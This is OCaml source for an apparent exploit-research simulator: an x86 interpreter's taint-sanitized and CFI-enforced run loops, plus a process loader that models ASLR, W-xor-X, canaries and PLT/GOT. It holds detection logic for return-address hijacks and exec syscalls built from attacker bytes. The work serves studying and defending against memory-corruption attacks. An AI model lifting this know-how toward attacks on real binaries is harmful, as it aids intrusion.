        match Mem.read_u8 t.mem a with
        | exception Mem.Fault _ -> 0
        | 0 -> 0
        | _ ->
            let l = mlab8 a in
            if l <> 0 then l else go (i + 1)
    in
    go 0
  in
  let peek pc =
    match Decode.decode t.mem pc with
    | insn, size -> Some (insn, size)
    | exception Decode.Error _ -> None
    | exception Mem.Fault _ -> None
  in
  let nothing () = () in
  let rec loop budget =
    if budget <= 0 then Outcome.Fuel_exhausted
    else if List.mem t.eip traps then Outcome.Halted
    else begin
      let pc0 = t.eip in
      let stepno = t.steps in
      let sp0 = get t ESP in
      let store ~addr ~len ~value ~label =
        O.store oracle ~pc:pc0 ~step:stepno ~addr ~len ~value ~label
      in
      let check_pc ~target ~slot ~label ~detail =
        O.check_pc oracle ~pc:pc0 ~step:stepno ~target ~slot ~label ~detail
      in
      let slot_of = function Mem m -> ea t m | Reg _ -> 0 in
      (* Pre-step planning: run detections against the pre-state and build
         the commit to apply if the instruction retires. *)
      let commit =
        match peek pc0 with
        | None -> nothing
        | Some (insn, size) -> (
            let next = Word.add pc0 size in
            match insn with
            | Nop | Cmp _ | Cmp_i _ | Test_rr _ | Jmp_rel _ | Jmp_short _
            | Jcc _ | Jcc_short _ | Hlt | Inc_r _ | Dec_r _ | Shl_i _
            | Shr_i _ | Neg (Reg _) | Not (Reg _) ->
                nothing
            | Push_r r ->
                let l = rlab r and v = get t r in
                fun () -> store ~addr:(Word.sub sp0 4) ~len:4 ~value:v ~label:l
            | Push_i i ->
                fun () ->
                  store ~addr:(Word.sub sp0 4) ~len:4 ~value:(Word.of_int i)
                    ~label:0
            | Push_i8 i ->
                fun () ->
                  store ~addr:(Word.sub sp0 4) ~len:4
                    ~value:(Word.sign8 (i land 0xFF)) ~label:0
            | Push_m m ->
                let a = ea t m in
                let l = mlab32 a and v = try_read32 a in
                fun () -> store ~addr:(Word.sub sp0 4) ~len:4 ~value:v ~label:l
            | Pop_r r ->
                let l = mlab32 sp0 in
                fun () -> set_rlab r l
            | Mov_ri (r, _) -> fun () -> set_rlab r 0
            | Mov (Reg d, s) ->
                let l = lab_op s in
                fun () -> set_rlab d l
            | Mov (Mem m, s) ->
                let a = ea t m in
                let l = lab_op s and v = try_read_op s in
                fun () -> store ~addr:a ~len:4 ~value:v ~label:l
            | Mov_mi (Reg d, _) -> fun () -> set_rlab d 0
            | Mov_mi (Mem m, i) ->
                let a = ea t m in
                fun () ->
                  store ~addr:a ~len:4 ~value:(Word.of_int i) ~label:0
            | Mov_b (Reg d, s) ->
                (* Only the low byte is replaced: merge rather than
                   overwrite the register's label. *)
                let l = Shadow.join (lab_op8 s) (rlab d) in
                fun () -> set_rlab d l
            | Mov_b (Mem m, s) ->
                let a = ea t m in
                let l = lab_op8 s and v = try_read_op8 s in
                fun () -> store ~addr:a ~len:1 ~value:v ~label:l
            | Movzx_b (r, s) ->
                let l = lab_op8 s in
                fun () -> set_rlab r l
            | Lea (r, { base = Some b; _ }) ->
                let l = rlab b in
                fun () -> set_rlab r l
            | Lea (r, { base = None; _ }) -> fun () -> set_rlab r 0
            | Xor (Reg d, Reg s) when d = s ->
                (* xor r, r is an idiomatic clear — the result carries no
                   attacker bytes whatever the operand held. *)
                fun () -> set_rlab d 0
            | Add (d, s) | Sub (d, s) | And (d, s) | Or (d, s) | Xor (d, s)
              -> (
                let l = Shadow.join (lab_op d) (lab_op s) in
                match d with
                | Reg r -> fun () -> set_rlab r l
                | Mem m ->
                    let a = ea t m in
                    fun () -> store ~addr:a ~len:4 ~value:0 ~label:l)
            | Add_i (Reg _, _) | Sub_i (Reg _, _) -> nothing
            | Add_i (Mem m, _) | Sub_i (Mem m, _) ->
                let a = ea t m in
                let l = mlab32 a in
                fun () -> store ~addr:a ~len:4 ~value:0 ~label:l
            | Neg (Mem m) | Not (Mem m) ->
                let a = ea t m in
                let l = mlab32 a in
                fun () -> store ~addr:a ~len:4 ~value:0 ~label:l
            | Imul (r, o) ->
                let l = Shadow.join (rlab r) (lab_op o) in
                fun () -> set_rlab r l
            | Call_rel _ ->
                let slot = Word.sub sp0 4 in
                fun () ->
                  store ~addr:slot ~len:4 ~value:next ~label:0;
                  O.note_ret_slot oracle slot
            | Call_rm o ->
                check_pc ~target:(try_read_op o) ~slot:(slot_of o)
                  ~label:(lab_op o) ~detail:"call through tainted pointer";
                let slot = Word.sub sp0 4 in
                fun () ->
                  store ~addr:slot ~len:4 ~value:next ~label:0;
                  O.note_ret_slot oracle slot
            | Jmp_rm o ->
                check_pc ~target:(try_read_op o) ~slot:(slot_of o)
                  ~label:(lab_op o) ~detail:"jmp through tainted pointer";
                nothing
            | Ret | Ret_i _ ->
                check_pc ~target:(try_read32 sp0) ~slot:sp0 ~label:(mlab32 sp0)
                  ~detail:"ret to attacker-controlled address";
                fun () -> O.clear_ret_slot oracle sp0
            | Leave ->
                let ebp0 = get t EBP in
                let lsp = rlab EBP and lbp = mlab32 ebp0 in
                fun () ->
                  set_rlab ESP lsp;
                  set_rlab EBP lbp
            | Int n ->
                if n = 0x80 then begin
                  let number = get t EAX in
                  let lnum = rlab EAX in
                  let exec =
                    number = Machine.Sysno.execve
                    || number = Machine.Sysno.exec_varargs
                  in
                  let path = get t EBX in
                  let larg =
                    if exec then
                      Shadow.join (rlab EBX)
                        (Shadow.join (cstring_label path) (rlab ECX))
                    else 0
                  in
                  let label = Shadow.join lnum larg in
                  if label <> 0 then
                    O.check_syscall oracle ~pc:pc0 ~step:stepno ~number
                      ~addr:(if exec then path else 0)
                      ~label
                      ~detail:
                        (if lnum <> 0 then "tainted syscall number"
                         else "exec path/args from attacker bytes")
                end;
                nothing)
      in
      match step t ~kernel with
      | Some reason -> reason
      | None ->
          commit ();
          loop (budget - 1)
    end
  in
  loop fuel

(* Mitigated fetch-decode-execute.  Like [run_sanitized], a separate
   entry point so the untraced hot loops stay untouched — but where the
   sanitizer is an observer, this loop *enforces*: a return whose target
   disagrees with the software shadow stack, or an indirect call/jmp
   whose target is not a known entry point, stops the run with
   [Cfi_violation] before the bad transfer executes.  Each iteration
   peeks the next instruction (direct decode, not through the icache, so
   icache hit/miss counts match a plain run), runs the checks against
   the pre-state, steps through the same [step] core as [run] — benign
   runs are bit-identical in outcome, step count, and registers — and
   commits the shadow-stack mirror only if the instruction retired.

   [shadow0] seeds the mirror (the caller's synthetic return address);
   [valid_target] answers whether an address is a legitimate indirect
   branch target (the loader passes the symbol table — coarse-grained
   label CFI, as an embedded toolchain would implement it). *)
let run_mitigated ?(fuel = 2_000_000) ~traps ~kernel ~shadow_stack ~forward_cfi
    ~valid_target ?(shadow0 = []) t =
  let mirror = ref shadow0 in
  let try_read32 a =
    match Mem.read_u32 t.mem a with v -> v | exception Mem.Fault _ -> 0
  in
  let try_read_op o =
    match read_op t o with v -> v | exception Mem.Fault _ -> 0
  in
  let peek pc =
    match Decode.decode t.mem pc with
    | insn, size -> Some (insn, size)
    | exception Decode.Error _ -> None
    | exception Mem.Fault _ -> None
  in
  let nothing () = () in
  let rec loop budget =
    if budget <= 0 then Outcome.Fuel_exhausted
    else if List.mem t.eip traps then Outcome.Halted
    else begin
      let pc0 = t.eip in
      let sp0 = get t ESP in
      (* Pre-step enforcement: [Error stop] aborts before the transfer
         executes; [Ok commit] applies the mirror update if the
         instruction retires. *)
      let plan =
        match peek pc0 with
        | None -> Ok nothing
        | Some (insn, size) -> (
            let next = Word.add pc0 size in
            let forward target =
              if forward_cfi && not (valid_target target) then
                Error
                  (Outcome.Cfi_violation { at = pc0; expected = 0; got = target })
              else Ok ()
            in
            let ret target =
              if not shadow_stack then Ok nothing
              else
                match !mirror with
                | expected :: rest when expected = target ->
                    Ok (fun () -> mirror := rest)
                | expected :: _ ->
                    Error (Outcome.Cfi_violation { at = pc0; expected; got = target })
                | [] ->
                    Error
                      (Outcome.Cfi_violation { at = pc0; expected = 0; got = target })
            in
            let push_ret () =
              if shadow_stack then mirror := next :: !mirror
            in
            match insn with
            | Call_rel _ -> Ok push_ret
            | Call_rm o -> (
                match forward (try_read_op o) with
                | Error stop -> Error stop
                | Ok () -> Ok push_ret)
            | Jmp_rm o -> (
                match forward (try_read_op o) with
                | Error stop -> Error stop
                | Ok () -> Ok nothing)
            | Ret | Ret_i _ -> ret (try_read32 sp0)
            | _ -> Ok nothing)
      in
      match plan with
      | Error stop -> stop
      | Ok commit -> (
          match step t ~kernel with
          | Some reason -> reason
          | None ->
              commit ();
              loop (budget - 1))
    end
  in
  loop fuel
