(** x86-32 interpreter over {!Memsim.Memory}.

    Faithfully models the properties the paper's exploits rest on:
    instruction fetch goes through page permissions (so W⊕X is a real NX
    check, not a flag), [call]/[ret] move real bytes through the simulated
    stack (so a smashed return address genuinely redirects control), and
    arguments are passed on the stack (cdecl).

    An optional shadow stack implements the return-edge half of CFI
    (the CFI CaRE analogue of the paper's §IV). *)

type t = {
  mem : Memsim.Memory.t;
  regs : int array;  (** eight GPRs indexed by {!Insn.reg_index} *)
  mutable eip : int;
  mutable zf : bool;
  mutable sf : bool;
  mutable cf : bool;
  mutable o_f : bool;
  mutable shadow : int list;  (** CFI shadow stack (empty when disabled) *)
  mutable cfi : bool;
  mutable steps : int;  (** instructions retired, for benches *)
  icache : compiled Memsim.Icache.t option;
      (** decoded-instruction cache ([None] = decode every step) *)
}

and kernel = int -> t -> Machine.Outcome.syscall_result
(** System-call handler: receives the [int n] vector number and the CPU
    (registers carry the arguments, eax the syscall number by Linux i386
    convention). *)

and compiled = private {
  insn : Insn.t;
  run : t -> kernel -> Machine.Outcome.stop_reason option;
}
(** Icache payload: the decoded instruction plus an execution thunk
    specialized for the instruction's address (successor eip and branch
    targets pre-resolved).  Behaviorally identical to interpreting
    [insn] — the cache only ever changes speed, never outcomes. *)

val create : ?cfi:bool -> ?icache:bool -> Memsim.Memory.t -> t
(** [icache] (default [true]) enables the write-invalidated
    decoded-instruction cache; execution is bit-identical either way
    (self-modifying pages re-decode via {!Memsim.Memory.page_gen}). *)

val get : t -> Insn.reg -> int
val set : t -> Insn.reg -> int -> unit

val push : t -> int -> unit
(** Decrement [esp] by 4 and store a 32-bit word. *)

val pop : t -> int
(** Load a 32-bit word and increment [esp] by 4. *)

val step : t -> kernel:kernel -> Machine.Outcome.stop_reason option
(** Execute one instruction.  [None] means keep running. *)

val run :
  ?fuel:int -> traps:int list -> kernel:kernel -> t -> Machine.Outcome.stop_reason
(** Run until a trap address is reached ([Halted]), a stop condition fires,
    or [fuel] instructions (default 2_000_000) have retired. *)

val run_traced :
  ?fuel:int ->
  traps:int list ->
  kernel:kernel ->
  ?trace:Telemetry.Trace.t ->
  ?profile:Telemetry.Profile.t ->
  t ->
  Machine.Outcome.stop_reason
(** Like {!run}, with telemetry: emits ["cpu"]-category events (call
    entry, basic-block entries, syscalls, traps, the stop reason) into
    [trace] and records every retired pc into [profile].  Timestamps are
    the retired-instruction counter offset from the trace clock at entry
    (one instruction per µs); the trace clock is advanced past the run on
    return.  Stepping goes through the same {!step} core as {!run}, so
    outcomes and step counts are identical traced or not.  This is a
    separate entry point precisely so {!run}'s hot loops carry no
    tracing branch. *)

val run_sanitized :
  ?fuel:int ->
  traps:int list ->
  kernel:kernel ->
  oracle:Sanitizer.Oracle.t ->
  t ->
  Machine.Outcome.stop_reason
(** Like {!run}, under the taint sanitizer: every load/store/ALU op
    propagates labels through [oracle]'s shadow state, and the oracle's
    detections (redzone write, return-slot overwrite, tainted pc,
    tainted syscall) fire as instructions are about to retire.  Stepping
    goes through the same {!step} core as {!run} and the oracle never
    touches guest state, so outcomes, step counts, and registers are
    bit-identical sanitized or not — whether or not reports fire (the
    differential tests assert this unconditionally).  A separate entry
    point, like {!run_traced}, so the untraced hot loops stay free of
    sanitizer branches. *)

val run_mitigated :
  ?fuel:int ->
  traps:int list ->
  kernel:kernel ->
  shadow_stack:bool ->
  forward_cfi:bool ->
  valid_target:(int -> bool) ->
  ?shadow0:int list ->
  t ->
  Machine.Outcome.stop_reason
(** Like {!run}, under the enforced embedded mitigations: a software
    shadow return stack ([call] pushes onto a mirror, [ret]/[ret n] must
    target its top) and forward-edge CFI ([call]/[jmp] through a
    register or memory operand must land on an address [valid_target]
    accepts — the loader passes the symbol table, i.e. coarse-grained
    label CFI).  A violating transfer stops the run with
    [Cfi_violation] {e before} it executes.  Stepping goes through the
    same {!step} core as {!run}, so benign runs are bit-identical in
    outcome, step count, and registers; like {!run_traced} and
    {!run_sanitized} this is a separate entry point so the plain hot
    loops carry no mitigation branch.  [shadow0] seeds the mirror with
    the caller's synthetic return address(es). *)
