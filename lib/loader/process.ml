module Mem = Memsim.Memory
module Word = Memsim.Word
module O = Machine.Outcome

type code =
  | X86_code of Isa_x86.Asm.program
  | Arm_code of Isa_arm.Asm.program

type spec = {
  name : string;
  code : code;
  imports : string list;
  bss_size : int;
}

type t = {
  spec : spec;
  arch : Arch.t;
  mem : Memsim.Memory.t;
  layout : Layout.t;
  profile : Defense.Profile.t;
  symbols : (string * int) list;
  trap : int;
  valid_targets : (int, unit) Hashtbl.t Lazy.t;
}

(* The forward-edge CFI policy set: every symbol address — function
   entries in the main image and libc, PLT stubs, the loader specials.
   Coarse-grained label CFI, as an embedded toolchain would emit it;
   lazy so processes that never run mitigated pay nothing, shared
   across forks (symbols are immutable after boot). *)
let targets_of_symbols symbols =
  lazy
    (let h = Hashtbl.create (2 * List.length symbols) in
     List.iter (fun (_, a) -> Hashtbl.replace h a ()) symbols;
     h)

let valid_target t addr = Hashtbl.mem (Lazy.force t.valid_targets) addr

let trap_addr = 0xFFFF_0000

let arch_of_code = function X86_code _ -> Arch.X86 | Arm_code _ -> Arch.Arm

(* Extern names a program may reference before their values are known:
   PLT stubs and the loader-provided specials. *)
let extern_names spec =
  List.map (fun f -> f ^ "@plt") spec.imports @ [ "__bss_start"; "__canary" ]

let assemble_main spec ~extern ~base =
  match spec.code with
  | X86_code program ->
      let r = Isa_x86.Asm.assemble ~extern ~base program in
      (r.Isa_x86.Asm.code, r.Isa_x86.Asm.symbols)
  | Arm_code program ->
      let r = Isa_arm.Asm.assemble ~extern ~base program in
      (r.Isa_arm.Asm.code, r.Isa_arm.Asm.symbols)

let round_up v = (v + Mem.page_size - 1) land lnot (Mem.page_size - 1)

(* Filler for the env/argv area above the initial stack pointer; gives the
   overflow a realistic amount of writable slack before the guard. *)
let env_strings = "SHELL=/bin/sh\x00PATH=/usr/sbin:/usr/bin:/sbin:/bin\x00HOME=/root\x00USER=root\x00"

let boot spec ~profile ~seed =
  let arch = arch_of_code spec.code in
  let rng = Memsim.Rng.create seed in
  (* Sizing pass: symbol-referencing pseudo-items have fixed sizes, so a
     dummy-extern assembly yields the true text size. *)
  let dummy_extern = List.map (fun n -> (n, 0)) (extern_names spec) in
  let code0, _ = assemble_main spec ~extern:dummy_extern ~base:(Layout.text_base_of arch) in
  let text_size = round_up (String.length code0) in
  let layout =
    Layout.compute ~arch ~profile ~rng ~text_size ~bss_size:spec.bss_size ()
  in
  (* libc *)
  let libc_syms, libc_code =
    match arch with
    | Arch.X86 ->
        let r = Libc_sim.Libc_x86.build ~base:layout.Layout.libc_base in
        (r.Isa_x86.Asm.symbols, r.Isa_x86.Asm.code)
    | Arch.Arm ->
        let r = Libc_sim.Libc_arm.build ~base:layout.Layout.libc_base in
        (r.Isa_arm.Asm.symbols, r.Isa_arm.Asm.code)
  in
  let import_addrs =
    List.map
      (fun f ->
        match List.assoc_opt f libc_syms with
        | Some a -> (f, a)
        | None -> failwith (spec.name ^ ": unresolved import " ^ f))
      spec.imports
  in
  let plt =
    Plt.synthesize ~arch ~plt_base:layout.Layout.plt_base
      ~got_base:layout.Layout.got_base ~imports:import_addrs
  in
  let extern =
    plt.Plt.symbols
    @ [
        ("__bss_start", layout.Layout.bss_base); ("__canary", layout.Layout.tls_base);
      ]
  in
  let main_code, main_syms = assemble_main spec ~extern ~base:layout.Layout.text_base in
  assert (round_up (String.length main_code) = text_size);
  (* Map the address space. *)
  let mem = Mem.create () in
  let l = layout in
  Mem.map mem ~base:l.Layout.text_base ~size:text_size ~perm:Mem.rx ~name:".text";
  Mem.poke_bytes mem l.Layout.text_base main_code;
  Mem.map mem ~base:l.Layout.plt_base ~size:l.Layout.plt_size ~perm:Mem.rx
    ~name:".plt";
  Mem.poke_bytes mem l.Layout.plt_base plt.Plt.code;
  Mem.map mem ~base:l.Layout.got_base ~size:l.Layout.got_size ~perm:Mem.rw
    ~name:".got";
  List.iter (fun (slot, addr) -> Mem.write_u32 mem slot addr) plt.Plt.got;
  Mem.map mem ~base:l.Layout.bss_base ~size:l.Layout.bss_size ~perm:Mem.rw
    ~name:".bss";
  Mem.map mem ~base:l.Layout.tls_base ~size:Mem.page_size ~perm:Mem.rw ~name:"tls";
  Mem.map mem ~base:l.Layout.heap_base ~size:l.Layout.heap_size ~perm:Mem.rw
    ~name:"heap";
  (match l.Layout.canary_value with
  | Some v -> Mem.write_u32 mem l.Layout.tls_base v
  | None -> ());
  let stack_perm = if profile.Defense.Profile.wxorx then Mem.rw else Mem.rwx in
  Mem.map mem ~base:l.Layout.stack_base ~size:l.Layout.stack_size ~perm:stack_perm
    ~name:"stack";
  Mem.map mem ~base:l.Layout.stack_top ~size:l.Layout.env_size ~perm:Mem.rw
    ~name:"env";
  Mem.write_bytes mem l.Layout.stack_top env_strings;
  Mem.map mem ~base:l.Layout.libc_base
    ~size:(round_up (String.length libc_code))
    ~perm:Mem.rx ~name:"libc";
  Mem.poke_bytes mem l.Layout.libc_base libc_code;
  let symbols =
    main_syms @ plt.Plt.symbols @ libc_syms
    @ [
        ("__bss_start", l.Layout.bss_base);
        ("__canary", l.Layout.tls_base);
        ("__trap", trap_addr);
      ]
  in
  {
    spec;
    arch;
    mem;
    layout;
    profile;
    symbols;
    trap = trap_addr;
    valid_targets = targets_of_symbols symbols;
  }

let symbol t name = List.assoc name t.symbols
let symbol_opt t name = List.assoc_opt name t.symbols

(* Replace the main image in place with a re-assembled spec — the
   per-boot diversification primitive.  The text region was page-rounded
   at boot, so a variant of the same program (shuffled layout, padding,
   equivalent-instruction rewrites) usually still fits in the mapped
   slack; when it does, reimaging costs one assembly plus one text
   write — no libc/PLT/stack rebuild, so it composes with copy-on-write
   forks for µs-scale diversified spawning.  Extern bindings (PLT stubs,
   [__bss_start], [__canary]) are recovered from the symbol table, so
   the variant links against the already-mapped world.  Returns [None]
   when the variant does not fit (caller falls back to a full [boot]).
   The [poke_bytes] writes bump the page generations, so any live
   decoded-instruction cache re-decodes the new text. *)
let reimage t spec' =
  if arch_of_code spec'.code <> t.arch then
    invalid_arg "Process.reimage: architecture mismatch";
  let extern =
    List.filter
      (fun (n, _) ->
        (String.length n > 4 && Filename.check_suffix n "@plt")
        || n = "__bss_start" || n = "__canary")
      t.symbols
  in
  List.iter
    (fun f ->
      if not (List.mem_assoc (f ^ "@plt") extern) then
        failwith ("Process.reimage: unresolved import " ^ f))
    spec'.imports;
  let text_base = t.layout.Layout.text_base in
  let text_size = t.layout.Layout.text_size in
  let code, main_syms = assemble_main spec' ~extern ~base:text_base in
  if String.length code > text_size then None
  else begin
    (* Zero the whole region first so no gadget bytes from the previous
       image survive in the slack past the new code. *)
    Mem.poke_bytes t.mem text_base (String.make text_size '\000');
    Mem.poke_bytes t.mem text_base code;
    let outside (_, a) = a < text_base || a >= text_base + text_size in
    let symbols = main_syms @ List.filter outside t.symbols in
    Some
      {
        t with
        spec = spec';
        symbols;
        valid_targets = targets_of_symbols symbols;
      }
  end

(* Everything in [t] except [mem] is immutable after boot (layout,
   symbols, profile), so process snapshots delegate entirely to the
   memory's copy-on-write layer and a fork is just a record copy around a
   forked memory. *)
let snapshot t = Mem.snapshot t.mem
let restore t snap = Mem.restore t.mem snap
let fork t snap = { t with mem = Mem.fork snap }

type run_result = {
  outcome : O.stop_reason;
  steps : int;
  ret : int;
  regs : int array;
  icache_hits : int;
  icache_misses : int;
}

let icache_stats = function
  | None -> (0, 0)
  | Some c -> (Memsim.Icache.hits c, Memsim.Icache.misses c)

(* When [on_step] is given, drive the CPU one instruction at a time so the
   observer sees every program-counter value (the debugger's single-step
   mode); with [sanitizer], use the ISA's [run_sanitized] loop; with
   [trace]/[profile], the [run_traced] side-channel loop; when the
   profile carries the embedded mitigations, the [run_mitigated]
   enforcement loop; otherwise the tight [run] loop.  Observer modes
   (on_step/sanitizer/trace) take precedence over enforcement — they
   exist to watch unmodified executions.  The register taint of a fresh
   call is cleared here — arguments the caller passes are trusted; only
   bytes the oracle was told to taint are not. *)
let call ?(fuel = 2_000_000) ?(icache = true) ?on_step ?sanitizer ?trace
    ?profile t ~entry ~args =
  let cfi = t.profile.Defense.Profile.cfi in
  let no_exec = t.profile.Defense.Profile.seccomp in
  let traced = trace <> None || profile <> None in
  let mitigated = Defense.Profile.mitigated t.profile in
  match t.arch with
  | Arch.X86 ->
      let cpu = Isa_x86.Cpu.create ~cfi ~icache t.mem in
      let sp0 = t.layout.Layout.stack_top - 0x100 in
      Isa_x86.Cpu.set cpu Isa_x86.Insn.ESP sp0;
      List.iter (fun a -> Isa_x86.Cpu.push cpu a) (List.rev args);
      Isa_x86.Cpu.push cpu t.trap;
      if cfi then cpu.Isa_x86.Cpu.shadow <- [ t.trap ];
      cpu.Isa_x86.Cpu.eip <- entry;
      let outcome =
        match on_step with
        | None when sanitizer <> None ->
            let oracle = Option.get sanitizer in
            Isa_x86.Cpu.run_sanitized ~fuel ~traps:[ t.trap ]
              ~kernel:(Kernel.x86_policy ~no_exec ())
              ~oracle cpu
        | None when traced ->
            Isa_x86.Cpu.run_traced ~fuel ~traps:[ t.trap ]
              ~kernel:(Kernel.x86_policy ~no_exec ())
              ?trace ?profile cpu
        | None when mitigated ->
            Isa_x86.Cpu.run_mitigated ~fuel ~traps:[ t.trap ]
              ~kernel:(Kernel.x86_policy ~no_exec ())
              ~shadow_stack:t.profile.Defense.Profile.shadow_stack
              ~forward_cfi:t.profile.Defense.Profile.forward_cfi
              ~valid_target:(valid_target t) ~shadow0:[ t.trap ] cpu
        | None -> Isa_x86.Cpu.run ~fuel ~traps:[ t.trap ]
              ~kernel:(Kernel.x86_policy ~no_exec ())
              cpu
        | Some observe ->
            let rec loop budget =
              if budget <= 0 then Machine.Outcome.Fuel_exhausted
              else if cpu.Isa_x86.Cpu.eip = t.trap then Machine.Outcome.Halted
              else begin
                observe cpu.Isa_x86.Cpu.eip;
                match Isa_x86.Cpu.step cpu ~kernel:(Kernel.x86_policy ~no_exec ()) with
                | Some reason -> reason
                | None -> loop (budget - 1)
              end
            in
            loop fuel
      in
      let icache_hits, icache_misses = icache_stats cpu.Isa_x86.Cpu.icache in
      {
        outcome;
        steps = cpu.Isa_x86.Cpu.steps;
        ret = Isa_x86.Cpu.get cpu Isa_x86.Insn.EAX;
        regs = Array.copy cpu.Isa_x86.Cpu.regs;
        icache_hits;
        icache_misses;
      }
  | Arch.Arm ->
      if List.length args > 4 then
        invalid_arg "Process.call: at most 4 register arguments on ARM";
      let cpu = Isa_arm.Cpu.create ~cfi ~icache t.mem in
      Isa_arm.Cpu.set cpu Isa_arm.Insn.SP (t.layout.Layout.stack_top - 0x100);
      List.iteri
        (fun i a ->
          Isa_arm.Cpu.set cpu (Isa_arm.Insn.reg_of_index i) a)
        args;
      Isa_arm.Cpu.set cpu Isa_arm.Insn.LR t.trap;
      if cfi then cpu.Isa_arm.Cpu.shadow <- [ t.trap ];
      Isa_arm.Cpu.set_pc cpu entry;
      let outcome =
        match on_step with
        | None when sanitizer <> None ->
            let oracle = Option.get sanitizer in
            Isa_arm.Cpu.run_sanitized ~fuel ~traps:[ t.trap ]
              ~kernel:(Kernel.arm_policy ~no_exec ())
              ~oracle cpu
        | None when traced ->
            Isa_arm.Cpu.run_traced ~fuel ~traps:[ t.trap ]
              ~kernel:(Kernel.arm_policy ~no_exec ())
              ?trace ?profile cpu
        | None when mitigated ->
            Isa_arm.Cpu.run_mitigated ~fuel ~traps:[ t.trap ]
              ~kernel:(Kernel.arm_policy ~no_exec ())
              ~shadow_stack:t.profile.Defense.Profile.shadow_stack
              ~forward_cfi:t.profile.Defense.Profile.forward_cfi
              ~valid_target:(valid_target t) ~shadow0:[ t.trap ] cpu
        | None -> Isa_arm.Cpu.run ~fuel ~traps:[ t.trap ]
              ~kernel:(Kernel.arm_policy ~no_exec ())
              cpu
        | Some observe ->
            let rec loop budget =
              if budget <= 0 then Machine.Outcome.Fuel_exhausted
              else if Isa_arm.Cpu.pc cpu = t.trap then Machine.Outcome.Halted
              else begin
                observe (Isa_arm.Cpu.pc cpu);
                match Isa_arm.Cpu.step cpu ~kernel:(Kernel.arm_policy ~no_exec ()) with
                | Some reason -> reason
                | None -> loop (budget - 1)
              end
            in
            loop fuel
      in
      let icache_hits, icache_misses = icache_stats cpu.Isa_arm.Cpu.icache in
      {
        outcome;
        steps = cpu.Isa_arm.Cpu.steps;
        ret = Isa_arm.Cpu.get cpu Isa_arm.Insn.R0;
        regs = Array.copy cpu.Isa_arm.Cpu.regs;
        icache_hits;
        icache_misses;
      }

let call_named ?fuel ?icache ?on_step ?sanitizer ?trace ?profile t ~entry ~args
    =
  call ?fuel ?icache ?on_step ?sanitizer ?trace ?profile t
    ~entry:(symbol t entry) ~args

let pp_summary ppf t =
  Format.fprintf ppf "%s (%a, %a)@.%a" t.spec.name Arch.pp t.arch
    Defense.Profile.pp t.profile Layout.pp t.layout
