(** Boot a program into a simulated process and call its functions.

    [boot] performs what execve + ld.so do on the paper's targets: lays
    out the address space ({!Layout}), assembles and maps the simulated
    libc, synthesizes PLT/GOT stubs for the program's imports, assembles
    the main image at its fixed base, applies the protection profile
    (stack executable iff W⊕X is off; libc/stack bases randomized iff
    ASLR is on; canary cookie written iff canaries are on), and exposes a
    symbol table playing the role of the attacker's offline [gdb] /
    [ropper] analysis of their local copy of the binary. *)

type code =
  | X86_code of Isa_x86.Asm.program
  | Arm_code of Isa_arm.Asm.program

type spec = {
  name : string;
  code : code;
  imports : string list;  (** libc functions reached through the PLT *)
  bss_size : int;
}

type t = {
  spec : spec;
  arch : Arch.t;
  mem : Memsim.Memory.t;
  layout : Layout.t;
  profile : Defense.Profile.t;
  symbols : (string * int) list;
      (** main-image symbols, ["f@plt"] stubs, libc symbols, and the
          specials ["__bss_start"], ["__canary"]. *)
  trap : int;  (** top-level return address; reaching it means Halted *)
  valid_targets : (int, unit) Hashtbl.t Lazy.t;
      (** forward-edge CFI policy set — every symbol address (function
          entries, PLT stubs, loader specials): coarse-grained label
          CFI as an embedded toolchain would emit it.  Lazy so
          unmitigated processes pay nothing; shared across forks. *)
}

val boot : spec -> profile:Defense.Profile.t -> seed:int -> t
(** [seed] drives all per-boot randomness (ASLR draws, canary cookie);
    the same seed reproduces the same address space bit-for-bit. *)

val symbol : t -> string -> int
(** Raises [Not_found]. *)

val symbol_opt : t -> string -> int option

val valid_target : t -> int -> bool
(** Membership in the forward-edge CFI policy set ({!t.valid_targets}). *)

val reimage : t -> spec -> t option
(** Replace the main image in place with a re-assembled variant of the
    program — the per-boot diversification primitive.  The text region
    was page-rounded at boot, so a shuffled/padded/rewritten variant of
    the same program usually still fits in the mapped slack; extern
    bindings (PLT stubs, [__bss_start], [__canary]) are recovered from
    the symbol table so the variant links against the already-mapped
    world, and main-image symbols are replaced by the variant's.
    Returns [None] when the variant's text does not fit (callers fall
    back to a full {!boot}).  Cheap — one assembly plus one text
    write — so it composes with {!fork} for µs-scale diversified
    spawning.  Raises if the spec's architecture differs or an import
    has no PLT stub. *)

val snapshot : t -> Memsim.Memory.snapshot
(** Copy-on-write snapshot of the process memory (see
    {!Memsim.Memory.snapshot}).  Everything else in [t] is immutable
    after [boot], so this captures the whole machine state between
    calls: a later {!restore} followed by {!call} replays bit-identically
    (outcome, step count, register file). *)

val restore : t -> Memsim.Memory.snapshot -> unit

val fork : t -> Memsim.Memory.snapshot -> t
(** An independent process sharing this one's immutable boot state
    (layout, symbols, profile) with memory forked copy-on-write from the
    snapshot.  The snapshot must come from this process (or a fork of
    it). *)

type run_result = {
  outcome : Machine.Outcome.stop_reason;
  steps : int;  (** instructions retired during the call *)
  ret : int;  (** eax / r0 at stop time *)
  regs : int array;  (** full register file at stop time (8 on x86, 16 on ARM) *)
  icache_hits : int;  (** decoded-instruction cache hits (0 if disabled) *)
  icache_misses : int;
}

val call :
  ?fuel:int ->
  ?icache:bool ->
  ?on_step:(int -> unit) ->
  ?sanitizer:Sanitizer.Oracle.t ->
  ?trace:Telemetry.Trace.t ->
  ?profile:Telemetry.Profile.t ->
  t ->
  entry:int ->
  args:int list ->
  run_result
(** Call a function following the architecture's convention (cdecl stack
    arguments on x86, r0–r3 on ARM; at most 4 args on ARM) on a fresh
    stack at the top of the stack region.  The CPU is created with CFI
    enforcement per the profile and, unless [icache:false], with the
    decoded-instruction cache (bit-identical execution either way — the
    differential tests step every exploit scenario both ways).  [on_step]
    observes every program-counter value before the instruction executes
    (single-step debugging).  [sanitizer] routes the call through the
    ISA's [run_sanitized] (taint propagation + exploit detections against
    the given oracle; outcomes, step counts and registers identical to a
    plain call).  [trace]/[profile] route it through [run_traced] (events
    + per-pc counts; same identity).  When the process profile carries
    the embedded mitigations ({!Defense.Profile.mitigated}), the call
    runs under the ISA's [run_mitigated] enforcement loop (shadow return
    stack + forward-edge CFI against {!t.valid_targets}; benign runs
    identical to a plain call).  Precedence: [on_step], then
    [sanitizer], then [trace]/[profile], then mitigations — observer
    modes watch unmodified executions. *)

val call_named :
  ?fuel:int ->
  ?icache:bool ->
  ?on_step:(int -> unit) ->
  ?sanitizer:Sanitizer.Oracle.t ->
  ?trace:Telemetry.Trace.t ->
  ?profile:Telemetry.Profile.t ->
  t ->
  entry:string ->
  args:int list ->
  run_result

